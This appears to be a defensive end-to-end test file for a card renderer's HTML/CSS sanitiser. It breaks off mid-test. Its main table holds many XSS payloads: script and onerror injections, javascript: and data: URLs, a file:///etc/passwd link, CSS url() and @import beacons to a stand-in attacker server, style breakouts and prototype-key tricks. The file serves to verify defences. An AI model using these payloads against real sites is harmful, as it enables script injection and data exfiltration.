// The card host shim (pkg/cards.js) in Debian's Chromium: the renderer is the security
// boundary for guest markup, so every XSS row below is an attack it must stop on its own.
// The page under attack is served WITHOUT a CSP (route /lax/): inline handlers, javascript:
// URLs and cross-origin images would all work there, which the two control tests prove. A
// second local server stands in for the attacker's origin and logs every hit.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { start } from './harness.mjs';

const PAGES = new URL('./pages/', import.meta.url);

let h;
let page;
let evil; // the beacon server
let EVIL; // its origin
const hits = [];

/** Serves tests/e2e/pages/<file> with no CSP at all. */
async function lax(req, res, url) {
  const file = url.pathname.slice('/lax/'.length).replace(/[^\w.-]/g, '');
  try {
    const body = await readFile(new URL(file, PAGES));
    res.writeHead(200, { 'content-type': file.endsWith('.js') ? 'text/javascript' : 'text/html; charset=utf-8', 'cache-control': 'no-store' });
    res.end(body);
  } catch {
    res.writeHead(404).end();
  }
}

const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

before(async () => {
  evil = createServer((req, res) => {
    hits.push(req.url);
    res.writeHead(200, { 'content-type': req.url.endsWith('.css') ? 'text/css' : 'image/gif', 'access-control-allow-origin': '*' });
    res.end(req.url.endsWith('.css') ? '* { outline: 1px solid red }' : GIF);
  });
  await new Promise((ok) => evil.listen(0, '127.0.0.1', ok));
  EVIL = `http://localhost:${evil.address().port}`;
  h = await start({ '/lax/': lax });
  page = await h.page('/lax/renderer.html');
  await page.waitForFunction(() => globalThis.ready === true);
});

after(async () => {
  await h?.close();
  await new Promise((ok) => (evil ? evil.close(ok) : ok()));
});

const settle = (ms = 250) => new Promise((ok) => setTimeout(ok, ms));
const pwned = () => page.evaluate(() => globalThis.__pwned);
/** Hits on the beacon server and requests that left the page's origin (but the control's), from `mark` on. */
const mark = () => ({ hits: hits.length, requests: h.requests.length });
const leaks = (from = { hits: 0, requests: 0 }) => [
  ...hits.slice(from.hits).filter((u) => !u.includes('control-allowed')),
  ...h.requests.slice(from.requests).filter((u) => !u.startsWith(h.origin) && !u.startsWith('data:') && !u.includes('control-allowed')),
];

// ------------------------------------------------------------------------------------------
// Controls: the page is really open, the beacon really sees loads
// ------------------------------------------------------------------------------------------

test('control: inline handlers run on this page (no CSP), so the renderer alone stops them', async () => {
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img id="control" src="/nope.png" onerror="window.__control = 1">'));
  await page.waitForFunction(() => globalThis.__control === 1);
  await page.evaluate(() => document.getElementById('control').remove());
});

test('control: an image from an allowed origin loads and is seen by the beacon', async () => {
  const snap = await page.evaluate(([EVIL]) => R.vector('control-img', { tree: [{ tag: 'img', attrs: { src: `${EVIL}/control-allowed.gif` } }] }, { allowedOrigins: [EVIL] }), [EVIL]);
  assert.equal(snap.elements[0].attrs.src, `${EVIL}/control-allowed.gif`);
  assert.equal(snap.elements[0].attrs.referrerpolicy, 'no-referrer');
  for (let i = 0; i < 40 && !hits.some((u) => u.includes('control-allowed')); i++) await settle(50);
  assert.ok(hits.some((u) => u.includes('control-allowed')), 'the beacon saw the allowed image');
});

// ------------------------------------------------------------------------------------------
// XSS table
// ------------------------------------------------------------------------------------------

const SAFE_TAGS = new Set(('div span p a ul ol li h1 h2 h3 h4 h5 h6 strong em b i u s small code pre ' +
  'blockquote br hr img figure figcaption table thead tbody tfoot tr th td caption section ' +
  'article header footer nav aside main label input textarea select option button form ' +
  'fieldset legend time mark abbr dl dt dd details summary progress meter sub sup kbd q ' +
  'cite del ins var wbr').split(' '));
const FORBIDDEN_ATTRS = /^(on|srcdoc$|srcset$|formaction$|action$|style$|ping$|xlink|is$|background$|poster$|data$|codebase$|http-equiv$|content$|autofocus$|pattern$)/i;

/** Invariants that hold after every vector. */
function assertSafe(snap, origin) {
  for (const { tag, attrs } of snap.elements) {
    assert.ok(SAFE_TAGS.has(tag), `forbidden element <${tag}> rendered`);
    for (const [name, value] of Object.entries(attrs)) {
      assert.ok(!FORBIDDEN_ATTRS.test(name), `forbidden attribute ${name} on <${tag}>`);
      if (name === 'href') assert.match(value, /^(https?|mailto):/i, `href ${value}`);
      if (name === 'src') assert.ok(value.startsWith(`${origin}/`) || /^data:image\/(png|gif|jpeg|webp)[;,]/.test(value), `src ${value}`);
      if (name === 'target') assert.equal(value, '_blank');
      assert.doesNotMatch(value, /^\s*(javascript|vbscript|data:text)/i, `${name}=${value}`);
    }
    if (attrs.target) assert.match(attrs.rel, /noopener/);
    if (tag === 'input') assert.ok(!['file', 'image', 'password'].includes(String(attrs.type).toLowerCase()), `input type ${attrs.type}`);
  }
  assert.equal(snap.styles, 1, 'only the shim\'s own <style> is in the card');
  assert.doesNotMatch(snap.css, /@import|@\\/i);
  assert.doesNotMatch(snap.css, /<\/style/i);
  assert.doesNotMatch(snap.css, /url\(\s*['"]?(?!\/|data:image\/(png|gif|jpeg|webp))/i, 'only same-origin or data-image url()s');
}

// Each row: a render (tree/css, with ${EVIL} for the attacker's origin and `$token` for a
// TrustedToken) and optional extra checks. Every URL's path names the row, so a leak is
// attributed.
const VECTORS = [
  ['script tag', { tree: [{ tag: 'script', children: ['window.__pwned = 1'] }, { tag: 'SCRIPT', attrs: { src: '${EVIL}/script-tag.js' } }, 'after'] },
    (s) => { assert.equal(s.text, 'after'); assert.deepEqual(s.dropped.map((d) => d.name), ['script', 'SCRIPT']); }],
  ['script nested in allowed markup', { tree: [{ tag: 'div', children: [{ tag: 'p', children: [{ tag: 'script', children: ['window.__pwned = 1'] }, 'kept'] }] }] },
    (s) => { assert.equal(s.text, 'kept'); assert.deepEqual(s.dropped, [{ path: '0.0.0', reason: 'tag', name: 'script' }]); }],
  ['iframe srcdoc', { tree: [{ tag: 'iframe', attrs: { srcdoc: '<script>parent.__pwned=1</script>', src: '${EVIL}/iframe' } }, { tag: 'div', attrs: { srcdoc: '<img src=x onerror=__pwned=1>' } }] }],
  ['object and embed', { tree: [{ tag: 'object', attrs: { data: '${EVIL}/object.swf' } }, { tag: 'embed', attrs: { src: '${EVIL}/embed.swf' } }, { tag: 'applet' }] }],
  ['img onerror', { tree: [{ tag: 'img', attrs: { src: '/does-not-exist.png', onerror: 'window.__pwned = 1', ONERROR: 'window.__pwned = 1', onload: 'window.__pwned = 1' } }] },
    (s) => assert.deepEqual(Object.keys(s.elements[0].attrs).sort(), ['referrerpolicy', 'src'])],
  ['svg onload', { tree: [{ tag: 'svg', attrs: { onload: 'window.__pwned = 1' }, children: [{ tag: 'image', attrs: { href: '${EVIL}/svg-image' } }, { tag: 'script', children: ['window.__pwned=1'] }] }, { tag: 'math', children: [{ tag: 'mtext', children: ['x'] }] }] },
    (s) => assert.equal(s.elements.length, 0)],
  ['a href javascript: (plain, mixed case, tab, newline, spaces, control char)', { tree: [
    'javascript:window.__pwned=1', 'JaVaScRiPt:window.__pwned=1', 'java\tscript:window.__pwned=1', 'java\nscript:window.__pwned=1',
    '   javascript:window.__pwned=1', '\u0001javascript:window.__pwned=1', 'javascript&colon;window.__pwned=1', ' vbscript:msgbox(1)',
  ].map((href, i) => ({ tag: 'a', attrs: { href, id: `js${i}` }, children: ['link'] })) },
    (s) => { for (const e of s.elements) assert.ok(!e.attrs.href || /^http/.test(e.attrs.href), e.attrs.href); }],
  ['data:text/html href and blob:/file: hrefs', { tree: [
    { tag: 'a', attrs: { href: 'data:text/html,<script>opener.__pwned=1</script>' } },
    { tag: 'a', attrs: { href: 'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+' } },
    { tag: 'a', attrs: { href: 'blob:http://127.0.0.1/abc' } }, { tag: 'a', attrs: { href: 'file:///etc/passwd' } }] },
    (s) => assert.ok(s.elements.every((e) => !('href' in e.attrs)))],
  ['data:image/svg+xml src', { tree: [{ tag: 'img', attrs: { src: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>' } }, { tag: 'img', attrs: { src: 'data:text/html,x' } }, { tag: 'img', attrs: { src: 'data:image/png;base64,iVBORw0KGgo=' } }] },
    (s) => assert.deepEqual(s.elements.map((e) => e.attrs.src), [undefined, undefined, 'data:image/png;base64,iVBORw0KGgo='])],
  ['cross-origin image (beacon), protocol-relative, backslash and userinfo tricks', { tree: [
    { tag: 'img', attrs: { src: '${EVIL}/img-beacon.gif' } }, { tag: 'img', attrs: { src: '//localhost:${EVILPORT}/img-proto-rel.gif' } },
    { tag: 'img', attrs: { src: '/\\localhost:${EVILPORT}/img-backslash.gif' } }, { tag: 'img', attrs: { src: '${ORIGIN}@localhost:${EVILPORT}/img-userinfo.gif' } },
    { tag: 'img', attrs: { src: 'http://evil.test/img-unroutable.gif' } }] },
    (s) => assert.ok(s.elements.every((e) => !('src' in e.attrs)))],
  ['form action and formaction', { tree: [{ tag: 'form', attrs: { action: '${EVIL}/form-action', method: 'post', target: '_top' }, children: [
    { tag: 'input', attrs: { name: 'q', value: 'secret' } },
    { tag: 'button', attrs: { formaction: '${EVIL}/form-formaction', formmethod: 'get', id: 'submit' }, children: ['Send'] },
    { tag: 'input', attrs: { type: 'image', src: '${EVIL}/form-input-image.gif' } },
    { tag: 'input', attrs: { type: 'file' } }, { tag: 'input', attrs: { type: 'password' } },
    { tag: 'input', attrs: { pattern: '(a+)+$' } }] }] },
    async (s, name) => {
      const url = page.url();
      await page.evaluate((n) => R.$(n, '#submit').click(), name);
      await settle();
      assert.equal(page.url(), url, 'clicking submit does not navigate');
      assert.deepEqual(s.elements.filter((e) => e.tag === 'input').map((e) => e.attrs.type), [undefined, undefined, undefined, undefined, undefined]);
    }],
  ['meta refresh, base href, link, style tag in the tree', { tree: [
    { tag: 'meta', attrs: { 'http-equiv': 'refresh', content: '0;url=${EVIL}/meta-refresh' } },
    { tag: 'base', attrs: { href: '${EVIL}/base/' } }, { tag: 'img', attrs: { src: 'relative-after-base.png' } },
    { tag: 'link', attrs: { rel: 'stylesheet', href: '${EVIL}/link.css' } }, { tag: 'link', attrs: { rel: 'prefetch', href: '${EVIL}/link-prefetch' } },
    { tag: 'style', children: ['.x{background:url(${EVIL}/style-tag.gif)}'] }, { tag: 'div', attrs: { class: 'x' }, children: ['x'] }] },
    (s) => { assert.equal(s.elements.find((e) => e.tag === 'img').attrs.src, `${h.origin}/lax/relative-after-base.png`); }],
  ['other forbidden elements', { tree: ['frame', 'frameset', 'template', 'noscript', 'portal', 'video', 'audio', 'source', 'track', 'dialog', 'canvas', 'slot', 'xmp', 'plaintext', 'noembed', 'marquee', 'keygen', 'isindex', 'image', 'x-custom']
    .map((tag) => ({ tag, attrs: { src: '${EVIL}/other-' + tag, poster: '${EVIL}/other-poster' }, children: ['<img src=x onerror=__pwned=1>'] })) },
    (s) => { assert.equal(s.elements.length, 0); assert.equal(s.dropped.length, 20); }],
  ['inline style attribute with url()', { tree: [{ tag: 'div', attrs: { style: 'background:url(${EVIL}/inline-style.gif);width:10px;height:10px', STYLE: 'x' }, children: ['x'] }] }],
  ['css @import (url, string, escaped, with layer)', { tree: [{ tag: 'div', attrs: { class: 'x' }, children: ['x'] }],
    css: '@import url(${EVIL}/import-a.css);\n@import "${EVIL}/import-b.css";\n@\\69mport "${EVIL}/import-c.css";\n@IMPORT url("${EVIL}/import-d.css") layer(x);\n.x{color:rgb(1, 2, 3)}' },
    async (s, name) => {
      assert.match(s.css, /\.x\{color:rgb\(1, 2, 3\)\}/);
      assert.equal(await page.evaluate((n) => getComputedStyle(R.$(n, '.x')).color, name), 'rgb(1, 2, 3)');
    }],
  ['css url() beacons, plain and escaped', { tree: [1, 2, 3, 4, 5, 6, 7, 8, 9].map((i) => ({ tag: 'div', attrs: { class: `c${i}` }, children: ['x'] })),
    css: [
      '.c1{background:url(${EVIL}/css-plain.gif)}',
      '.c2{background:url("${EVIL}/css-quoted.gif")}',
      '.c3{background:URL( \'${EVIL}/css-upper.gif\' )}',
      '.c4{background:\\75 rl(${EVIL}/css-hex-escape.gif)}',
      '.c5{background:u\\rl(${EVIL}/css-char-escape.gif)}',
      '.c6{background:url(\\68ttp://localhost:${EVILPORT}/css-escape-inside.gif)}',
      '.c7{background-image:image-set("${EVIL}/css-image-set.gif" 1x)}',
      '.c8{--u:url(${EVIL}/css-custom-prop.gif);background-image:var(--u)}',
      '.c9{cursor:url(${EVIL}/css-cursor.gif),auto;list-style:url(${EVIL}/css-list.gif);content:url(${EVIL}/css-content.gif)}',
      ':host{background:url(${EVIL}/css-host.gif)}',
    ].join('\n') }],
  ['css tokenizer confusion', { tree: [1, 2, 3, 4, 5].map((i) => ({ tag: 'div', attrs: { class: `t${i}` }, children: ['x'] })),
    css: [
      '.t2{background:#url(${EVIL}/css-confuse-hash.gif)}',
      '.t3{background:1e3url(${EVIL}/css-confuse-number.gif)}',
      '.t4{--a:ur;--b:l(${EVIL}/css-confuse-var.gif);background-image:var(--a)var(--b)}',
      '.t5{background-image:-webkit-image-set(url(${EVIL}/css-confuse-wis.gif) 1x);mask-image:url("${EVIL}/css-confuse-mask.gif")}',
      // A tokenizer that took `1url(/*)` for a url would think the rest is one string; a
      // browser sees a comment up to `*/` and then a live declaration.
      '.t1{width:1url(/*) "*/); background: url(${EVIL}/css-confuse-comment.gif); --x:"""}',
      '.t5{background:url(${EVIL}/css-confuse-bad-url.gif',
    ].join('\n') }],
  ['css @font-face to another origin', { tree: [{ tag: 'p', attrs: { class: 'f' }, children: ['font'] }],
    css: '@font-face{font-family:evilfont;src:url(${EVIL}/css-font.woff) format("woff"),url("${EVIL}/css-font2.woff")}\n.f{font-family:evilfont}' }],
  ['css </style><script> breakout', { tree: [{ tag: 'p', children: ['x'] }], css: 'p{color:red}</style><script>window.__pwned=1</script><style>\np::after{content:"</style><img src=x onerror=__pwned=1>"}' },
    (s) => assert.ok(!s.outer.includes('script') && !s.elements.some((e) => e.tag === 'img'))],
  ['css expression, -moz-binding, behavior', { tree: [{ tag: 'p', children: ['x'] }], css: 'p{width:expression(window.__pwned=1);-moz-binding:url(${EVIL}/css-binding.xml#x);behavior:url(${EVIL}/css-behavior.htc);color:blue}' },
    (s) => { assert.doesNotMatch(s.css, /expression|binding|behavior/); assert.match(s.css, /color:blue/); }],
  ['attribute names with spaces, quotes, slashes and on*', { tree: [{ tag: 'div', attrs: {
    onclick: 'window.__pwned=1', OnMouseOver: 'window.__pwned=1', 'x onclick': 'window.__pwned=1', 'a"b': '1', "title' onfocus='window.__pwned=1": '',
    '/onclick': 'x', 'data-ok': 'yes', 'aria-label': 'fine', 'data-x y': '1', '': 'empty', '1abc': 'digit', 'xlink:href': 'javascript:alert(1)', is: 'x-evil',
  }, children: ['x'] }] },
    (s) => assert.deepEqual(s.elements[0].attrs, { 'data-ok': 'yes', 'aria-label': 'fine' })],
  ['srcset, ping, target=_top, autofocus, positive tabindex', { tree: [
    { tag: 'img', attrs: { src: '/x.png', srcset: '${EVIL}/srcset.gif 1x' } },
    { tag: 'a', attrs: { href: '/same-origin', ping: '${EVIL}/ping', target: '_top' }, children: ['same'] },
    { tag: 'a', attrs: { href: 'https://example.com/', target: '_self' }, children: ['cross'] },
    { tag: 'button', attrs: { autofocus: '', tabindex: '5', onfocus: 'window.__pwned=1' } }] },
    (s) => {
      const [, same, cross, button] = s.elements;
      assert.deepEqual(same.attrs, { href: `${h.origin}/same-origin` });
      assert.deepEqual(cross.attrs, { href: 'https://example.com/', target: '_blank', rel: 'noopener noreferrer' });
      assert.deepEqual(button.attrs, {});
    }],
  ['details ontoggle', { tree: [{ tag: 'details', attrs: { open: '', ontoggle: 'window.__pwned=1' }, children: [{ tag: 'summary', children: ['s'] }] }] },
    (s) => assert.deepEqual(s.elements[0].attrs, { open: '' })],
  ['prototype keys as tags, attributes and events', { tree: [
    { tag: '__proto__' }, { tag: 'constructor' }, { tag: 'toString' }, { tag: 'hasOwnProperty' },
    { tag: 'div', attrs: { $proto$: 'x', constructor: 'y', toString: 'z', valueOf: 'v' }, on: { $proto$: 'a', constructor: 'b' }, children: ['ok'] },
    { $proto$: { tag: 'script' }, children: ['not a node'] }] },
    (s) => { assert.deepEqual(s.elements, [{ tag: 'div', attrs: {} }]); assert.equal(s.text, 'ok'); }],
  ['text that looks like markup stays text', { tree: ['<img src=x onerror=window.__pwned=1>', { tag: 'p', children: ['<script>window.__pwned=1</script>', '&lt;b&gt;'] }] },
    (s) => {
      assert.equal(s.text, '<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>&lt;b&gt;');
      assert.deepEqual(s.elements.map((e) => e.tag), ['p']);
    }],
  ['malformed nodes are dropped, not fatal', { tree: [null, true, { }, [], { tag: 5 }, { tag: 'p', children: 'not-an-array', attrs: 'nope', on: 'nope' }, { tag: 'p', attrs: { title: { toString: null } }, on: { click: 7 } }, 42, 'text'] },
    (s) => {
      assert.equal(s.text, '42text');
      assert.deepEqual(s.dropped.map((d) => d.reason), ['malformed node', 'malformed node', 'malformed node', 'malformed node', 'malformed node', 'malformed attrs', 'malformed on', 'malformed children', 'attribute', 'event']);
    }],
  ['guest-made token look-alike', { tree: ['before', { component: { module: 'ui', export: 'Button' }, props: { label: 'fake' } }] },
    (s) => { assert.equal(s.error.fields.code, 'SANDBOX_UNKNOWN_TOKEN'); assert.match(s.error.fields.message, /not a trusted token/); assert.equal(s.elements.length, 0); assert.equal(s.text, ''); }],
  ['real TrustedToken not in the registry', { tree: [{ component: { $token: ['ui', 'Missing'] } }] },
    (s) => { assert.equal(s.error.fields.code, 'SANDBOX_UNKNOWN_TOKEN'); assert.match(s.error.fields.message, /"ui"#"Missing"/); }],
  ['TrustedToken naming prototype keys', { tree: [{ component: { $token: ['ui', 'toString'] } }, { component: { $token: ['__proto__', 'constructor'] } }] },
    (s) => assert.equal(s.error.fields.code, 'SANDBOX_UNKNOWN_TOKEN')],
  ['children of a component are sanitised too', { tree: [{ component: { $token: ['ui', 'Button'] }, props: { label: 'ok' }, children: [{ tag: 'script', children: ['window.__pwned=1'] }, { tag: 'img', attrs: { src: '${EVIL}/component-child.gif', onerror: 'window.__pwned=1' } }, 'child'] }] },
    (s) => { assert.deepEqual(s.elements.map((e) => e.tag), ['button', 'img']); assert.equal(s.text, 'okchild'); }],
];

// As JSON text, parsed in the page: JSON.parse makes `$proto$` an own `__proto__` key.
const fill = (v) => JSON.stringify(v).replaceAll('${EVIL}', EVIL).replaceAll('${EVILPORT}', String(evil.address().port))
  .replaceAll('${ORIGIN}', h.origin).replaceAll('"$proto$"', '"__proto__"');

for (const [label, render, check] of VECTORS) {
  test(`xss: ${label}`, async () => {
    const name = `v-${label.replace(/[^a-z0-9]+/gi, '-')}`;
    const from = mark();
    await page.evaluate(() => { globalThis.__pwnedBefore ||= globalThis.__pwned; delete globalThis.__pwned; });
    const snap = await page.evaluate(([n, json]) => R.vector(n, JSON.parse(json)), [name, fill(render)]);
    assertSafe(snap, h.origin);
    if (check) await check(snap, name);
    await settle();
    assert.equal(await pwned(), undefined, 'window.__pwned was set');
    assert.deepEqual(leaks(from), [], 'a request left the page origin');
    assert.equal(await page.evaluate(() => document.querySelectorAll('script, iframe, object, embed, base, meta[http-equiv], link:not([rel=icon])').length), 1, 'nothing but our own script in the document');
  });
}

test('xss: nothing reached the beacon or another origin over the whole table', async () => {
  await settle(500);
  assert.equal(await page.evaluate(() => globalThis.__pwned || globalThis.__pwnedBefore), undefined);
  assert.deepEqual(leaks(), []);
});

test('xss: id, for and name are prefixed outside a shadow root (DOM clobbering)', async () => {
  const out = await page.evaluate(() => {
    const div = document.createElement('div');
    document.body.append(div);
    R.cards.renderTree(div, [{ tag: 'img', attrs: { id: 'clobberId', name: 'clobberName', src: '/x.png' } }, { tag: 'label', attrs: { for: 'a b' } }, { tag: 'form', attrs: { name: 'clobberForm' } }]);
    const r = { window: typeof window.clobberId, document: typeof document.clobberName, form: typeof document.clobberForm, html: [...div.children].map((e) => [e.id, e.getAttribute('name'), e.getAttribute('for')]) };
    div.remove();
    return r;
  });
  assert.deepEqual(out, { window: 'undefined', document: 'undefined', form: 'undefined', html: [['user-content-clobberId', 'user-content-clobberName', null], ['', null, 'user-content-a user-content-b'], ['', 'user-content-clobberForm', null]] });
});

test('xss: the card cannot cover the page or hide its error panel', async () => {
  const css = '.cover{position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:red} :host{position:fixed !important;inset:0 !important;contain:none !important} .error,.stale,*{display:none !important}';
  await page.evaluate(([css]) => {
    R.renderSource.cover = { tree: [{ tag: 'div', attrs: { class: 'cover' }, children: ['cover'] }], css, title: 'cover' };
    return R.mount('cover');
  }, [css]);
  const hit = await page.evaluate(() => {
    const c = document.getElementById('cover');
    Object.assign(c.style, { position: 'absolute', left: '0', top: '0', width: '100px', height: '50px' });
    const at = document.elementFromPoint(innerWidth - 5, innerHeight - 5);
    return at === c ? 'card' : at && at.localName;
  });
  assert.notEqual(hit, 'card');
  const snap = await page.evaluate(async () => {
    R.renderSource.cover = { $error: { code: 'SANDBOX_GUEST_THREW', message: 'boom [SANDBOX_GUEST_THREW]' } };
    await R.views.cover.refresh();
    return R.snapshot('cover');
  });
  assert.ok(snap.error.visible, 'the error panel is visible despite the card CSS');
  await page.evaluate(() => { R.views.cover.destroy(); document.getElementById('cover').remove(); });
});

// ------------------------------------------------------------------------------------------
// Token mapper
// ------------------------------------------------------------------------------------------

test('mapper: own-property lookups only, copied at creation, genuine tokens only', async () => {
  const out = await page.evaluate(() => {
    const { createTokenMapper } = R.cards;
    const { TrustedToken } = R;
    const reg = { ui: { Button: () => document.createElement('b') } };
    const mapper = createTokenMapper(reg);
    reg.ui.Later = () => null;
    reg.other = { X: () => null };
    const tryMap = (t) => { try { return typeof mapper(t); } catch (e) { return R.describeError(e); } };
    const viaMap = createTokenMapper(new Map([['m', new Map([['E', () => null]])]]));
    return {
      ok: tryMap(new TrustedToken('ui', 'Button')),
      has: mapper.has(new TrustedToken('ui', 'Button')),
      later: tryMap(new TrustedToken('ui', 'Later')),
      other: tryMap(new TrustedToken('other', 'X')),
      lookalike: tryMap({ module: 'ui', export: 'Button' }),
      hasLookalike: mapper.has({ module: 'ui', export: 'Button' }),
      proto: [['ui', '__proto__'], ['ui', 'constructor'], ['ui', 'toString'], ['__proto__', 'constructor'], ['constructor', 'name'], ['hasOwnProperty', 'call']]
        .map(([m, e]) => tryMap(new TrustedToken(m, e)).code),
      spoofed: tryMap(Object.setPrototypeOf({ module: 'ui', export: 'Button' }, TrustedToken.prototype)) === 'function' ? 'prototype-spoof resolves' : 'rejected',
      nul: tryMap(null).code,
      map: typeof viaMap(new TrustedToken('m', 'E')),
      frozen: Object.isFrozen(mapper),
      badRegistry: (() => { try { createTokenMapper({ ui: { X: 'not a function' } }); return 'accepted'; } catch (e) { return e.code; } })(),
    };
  });
  assert.equal(out.ok, 'function');
  assert.equal(out.has, true);
  assert.equal(out.later.code, 'SANDBOX_UNKNOWN_TOKEN');
  assert.match(out.later.message, /"ui"#"Later".*\[SANDBOX_UNKNOWN_TOKEN\]$/);
  assert.equal(out.other.code, 'SANDBOX_UNKNOWN_TOKEN');
  assert.equal(out.lookalike.code, 'SANDBOX_UNKNOWN_TOKEN');
  assert.ok(out.lookalike.sandbox);
  assert.equal(out.hasLookalike, false);
  assert.deepEqual(out.proto, Array(6).fill('SANDBOX_UNKNOWN_TOKEN'));
  // An object given TrustedToken.prototype by host code passes instanceof: genuineness is the
  // worker's job (docs/cards.md); guest data never carries prototypes across postMessage.
  assert.equal(out.spoofed, 'prototype-spoof resolves');
  assert.equal(out.nul, 'SANDBOX_UNKNOWN_TOKEN');
  assert.equal(out.map, 'function');
  assert.equal(out.frozen, true);
  assert.equal(out.badRegistry, 'SANDBOX_INVALID_OPTIONS');
});

// ------------------------------------------------------------------------------------------
// Patching
// ------------------------------------------------------------------------------------------

const RICH = {
  title: 'Rich',
  css: '.name{font-weight:bold} .avatar{background:url(/pkg/x.png)}',
  tree: [
    { tag: 'h1', attrs: { class: 'name' }, children: ['Ada ', { tag: 'em', children: ['Lovelace'] }] },
    { tag: 'a', attrs: { href: 'https://example.com/ada' }, children: ['profile'] },
    { tag: 'img', attrs: { src: 'data:image/png;base64,iVBORw0KGgo=', alt: 'avatar', class: 'avatar' } },
    { tag: 'input', attrs: { type: 'text', value: 'Ada', class: 'in' }, on: { input: 'a:input' } },
    { tag: 'input', attrs: { type: 'checkbox', checked: '', class: 'cb' }, on: { change: 'a:check' } },
    { tag: 'ul', children: ['x', 'y', 'z'].map((k) => ({ tag: 'li', attrs: { key: k, 'data-k': k }, children: [k] })) },
    { component: { $token: ['ui', 'Button'] }, props: { label: 'Save', nested: { deep: [1, 2, { three: 3 }] } }, on: { click: 'a:save' }, children: [{ tag: 'span', attrs: { class: 'child' }, children: ['!'] }] },
    { tag: 'p', attrs: { class: 'status' }, children: ['count: ', '1'] },
  ],
};

test('patch: an identical re-render does no DOM mutation', async () => {
  await page.evaluate((r) => R.mount('rich', r), RICH);
  const before = await page.evaluate(() => R.componentCalls);
  const records = await page.evaluate(() => R.mutations('rich', () => R.views.rich.refresh()));
  assert.deepEqual(records, []);
  assert.equal(await page.evaluate(() => R.componentCalls), before, 'the host component was not called again');
});

test('patch: changing one text changes exactly that text node', async () => {
  const out = await page.evaluate((r) => {
    const tag = (sel) => { const e = R.$('rich', sel); e.__mark = sel; return e; };
    const marked = ['h1', 'a', 'img', '.in', 'ul', '.host-button', '.status'].map(tag);
    const next = structuredClone(r);
    next.tree[7].children[1] = '2';
    R.renderSource.rich = next;
    return R.mutations('rich', () => R.views.rich.refresh()).then((records) => ({
      records,
      kept: marked.map((e) => e.isConnected && e.__mark),
    }));
  }, RICH);
  assert.deepEqual(out.records, [{ type: 'characterData', target: '#text', attribute: null, added: 0, removed: 0, value: '2' }]);
  assert.ok(out.kept.every(Boolean), `all elements kept: ${out.kept}`);
});

test('patch: attributes, keyed reordering, removal, component props', async () => {
  const out = await page.evaluate((r) => {
    const lis = [...R.$('rich', 'ul').children];
    lis.forEach((li) => { li.__key = li.dataset.k; });
    const button = R.$('rich', '.host-button');
    const next = structuredClone(r);
    next.tree[0].attrs.class = 'name big';
    next.tree[5].children.reverse();
    next.tree[5].children.pop(); // drops 'x'
    next.tree[6].props.nested.deep[2].three = 4;
    next.tree.splice(1, 1); // the link goes; later siblings shift position
    next.tree[6].children = ['count: ', '2'];
    R.renderSource.rich = next;
    return R.mutations('rich', () => R.views.rich.refresh()).then((records) => ({
      types: records.map((x) => x.type + (x.attribute ? `:${x.attribute}` : '')),
      order: [...R.$('rich', 'ul').children].map((li) => li.__key),
      sameLis: [...R.$('rich', 'ul').children].every((li) => lis.includes(li)),
      buttonRecreated: R.$('rich', '.host-button') !== button,
      link: R.$('rich', 'a') === null,
      h1: R.$('rich', 'h1').className,
    }));
  }, RICH);
  assert.deepEqual(out.order, ['z', 'y']);
  assert.ok(out.sameLis, 'keyed items moved, not re-created');
  assert.ok(out.buttonRecreated, 'the component was re-created for new props');
  assert.ok(out.link);
  assert.equal(out.h1, 'name big');
  assert.ok(out.types.includes('attributes:class'));
});

test('patch: controlled inputs follow the guest, not unrelated re-renders', async () => {
  const out = await page.evaluate(async (r) => {
    R.renderSource.ctl = { tree: [{ tag: 'input', attrs: { value: 'a' } }, { tag: 'input', attrs: { type: 'checkbox' } }, { tag: 'p', children: ['1'] }] };
    await R.mount('ctl');
    const [input, box] = R.views.ctl.contentRoot.querySelectorAll('input');
    input.value = 'typed';
    box.checked = true;
    R.renderSource.ctl.tree[2].children = ['2'];
    await R.views.ctl.refresh();
    const afterUnrelated = [input.value, box.checked];
    R.renderSource.ctl.tree[0].attrs.value = 'from guest';
    R.renderSource.ctl.tree[1].attrs.checked = '';
    await R.views.ctl.refresh();
    box.checked = false;
    R.renderSource.ctl.tree[2].children = ['3'];
    await R.views.ctl.refresh();
    const keptUser = box.checked;
    delete R.renderSource.ctl.tree[1].attrs.checked;
    box.checked = true;
    await R.views.ctl.refresh();
    return { afterUnrelated, value: input.value, keptUser, unchecked: box.checked };
  }, RICH);
  assert.deepEqual(out, { afterUnrelated: ['typed', true], value: 'from guest', keptUser: false, unchecked: false });
});

test('patch: host components get their own deep copy of props', async () => {
  const out = await page.evaluate(async () => {
    R.renderSource.keep = { tree: [{ component: { $token: ['ui', 'Keeper'] }, props: { a: { b: [1, { c: 2 }] }, ['__proto__']: { polluted: true } } }] };
    await R.mount('keep');
    const kept = R.kept;
    const el = R.$('keep', '.keeper');
    kept.a.b[1].c = 99; // the component changes what it got...
    await R.views.keep.refresh(); // ...which must not make the shim's copy differ
    return { own: Object.keys(kept), polluted: ({}).polluted, protoIsObject: Object.getPrototypeOf(kept) === Object.prototype, same: R.$('keep', '.keeper') === el };
  });
  assert.deepEqual(out.own, ['a', '__proto__']);
  assert.equal(out.polluted, undefined);
  assert.ok(out.protoIsObject);
  assert.ok(out.same, 'unchanged props keep the component');
});

// ------------------------------------------------------------------------------------------
// Events
// ------------------------------------------------------------------------------------------

const EVENT_KEYS = new Set(['type', 'key', 'code', 'value', 'checked', 'altKey', 'ctrlKey', 'metaKey', 'shiftKey', 'button']);
function assertEventData(a) {
  assert.ok(a.proto, 'a plain object');
  for (const [k, v] of Object.entries(a.data)) {
    assert.ok(EVENT_KEYS.has(k), `unexpected key ${k}`);
    assert.ok(['string', 'number', 'boolean'].includes(typeof v), `${k} is ${typeof v}`);
  }
  assert.deepEqual(JSON.parse(a.json), a.data);
}

test('events: DOM events reach the guest as sanitised primitives', async () => {
  await page.evaluate(() => {
    R.actions.length = 0;
    R.renderSource.ev = { tree: [
